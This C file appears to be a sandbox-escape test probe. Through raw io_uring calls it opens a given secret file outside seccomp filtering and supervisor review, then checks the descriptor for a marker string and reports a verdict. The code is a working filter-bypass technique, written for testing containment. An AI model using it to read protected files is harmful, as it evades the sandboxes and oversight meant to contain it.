/* io_uring performs operations in the kernel that no seccomp filter sees
 * one by one, and that a supervisor is never asked about:
 *
 *   openat SECRET MARK   IORING_OP_OPENAT of the secret, then read the
 *                        descriptor it returns
 *
 * The ring is set up with raw system calls (no liburing). */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "esc.h"

static void op_openat(char **argv)
{
	struct io_uring_params p = { 0 };
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqe;
	unsigned *sq_tail, *sq_array, *cq_head, *cq_tail, mask;
	void *sq, *cq;
	int ring, fd;

	ring = (int)syscall(__NR_io_uring_setup, 4, &p);
	if (ring < 0)
		esc_failed("io_uring_setup", errno);
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE, MAP_SHARED,
		  ring, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE,
		  MAP_SHARED, ring, IORING_OFF_CQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring,
		    IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		esc_premise("mapping the ring: %s", esc_errno(errno));
	sq_tail = (unsigned *)((char *)sq + p.sq_off.tail);
	sq_array = (unsigned *)((char *)sq + p.sq_off.array);
	mask = *(unsigned *)((char *)sq + p.sq_off.ring_mask);
	cq_head = (unsigned *)((char *)cq + p.cq_off.head);
	cq_tail = (unsigned *)((char *)cq + p.cq_off.tail);

	memset(&sqes[0], 0, sizeof(sqes[0]));
	sqes[0].opcode = IORING_OP_OPENAT;
	sqes[0].fd = AT_FDCWD;
	sqes[0].addr = (unsigned long)argv[0];
	sqes[0].open_flags = O_RDONLY | O_CLOEXEC;
	sq_array[*sq_tail & mask] = 0;
	__atomic_store_n(sq_tail, *sq_tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		esc_failed("io_uring_enter", errno);
	if (__atomic_load_n(cq_tail, __ATOMIC_ACQUIRE) == *cq_head)
		esc_premise("no completion after io_uring_enter");
	cqe = (struct io_uring_cqe *)((char *)cq + p.cq_off.cqes) +
	      (*cq_head & *(unsigned *)((char *)cq + p.cq_off.ring_mask));
	fd = cqe->res;
	if (fd < 0)
		esc_failed("IORING_OP_OPENAT", -fd);
	esc_read_verdict(esc_fd_has(fd, argv[1]), "IORING_OP_OPENAT");
}

static const struct esc_op ops[] = {
	{ "openat", 2, "SECRET MARK", op_openat },
};

int main(int argc, char **argv)
{
	return esc_main(argc, argv, ops, ELEMENTSOF(ops));
}
